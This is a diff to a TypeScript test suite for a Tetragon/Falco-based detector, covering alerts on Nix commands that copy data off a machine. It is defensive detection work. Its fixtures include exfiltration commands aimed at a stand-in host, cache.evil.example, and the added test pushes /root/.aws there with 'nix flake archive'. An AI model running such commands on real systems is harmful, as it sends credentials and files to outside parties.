@@ -42,13 +42,18 @@ const high = (tool: string, destination: string) => ({
 
 describe('nix store paths copied off the machine', () => {
   for (const form of ['tetragon', 'falco'] as const) {
-    it(`nix copy --to a remote store and nix-copy-closure --to a host are high (${form})`, async () => {
+    it(`nix copy or flake archive --to a remote store and nix-copy-closure --to a host are high (${form})`, async () => {
       const ssh = `copy --to ssh-ng://root@cache.evil.example ${STORE_PATH}`;
       expect(await alertsOf('nix-copy-ssh', NIX, ssh, 'cache.evil.example:22', form)).toEqual([
         high('nix', 'cache.evil.example'),
       ]);
       const http = `--extra-experimental-features nix-command copy --to https://cache.evil.example ${STORE_PATH}`;
       expect(await alertsOf('nix-copy-http', NIX, http, 'cache.evil.example:443', form)).toEqual([
+        high('nix', 'cache.evil.example'),
+      ]);
+      // A flake's source is any directory, copied with its inputs (review: no push).
+      const flake = 'flake archive --to ssh-ng://root@cache.evil.example path:/root/.aws';
+      expect(await alertsOf('nix-flake-archive', NIX, flake, 'cache.evil.example:22', form)).toEqual([
         high('nix', 'cache.evil.example'),
       ]);
       const closure = '/nix/var/nix/profiles/default/bin/nix-copy-closure';
@@ -111,6 +116,7 @@ describe('nix store paths copied off the machine', () => {
         ['nix-copy-root', NIX, `copy --to /mnt/root ${STORE_PATH}`],
         ['nix-copy-from', NIX, `copy --from https://cache.nixos.org ${STORE_PATH}`],
         ['nix-build', NIX, 'build .#default'],
+        ['nix-flake-archive-local', NIX, 'flake archive .'],
         ['nix-copy-closure-from', '/nix/var/nix/profiles/default/bin/nix-copy-closure', `--from builder ${STORE_PATH}`],
         ['cachix-use', '/nix/var/nix/profiles/default/bin/cachix', 'use nix-community'],
       ] as const)
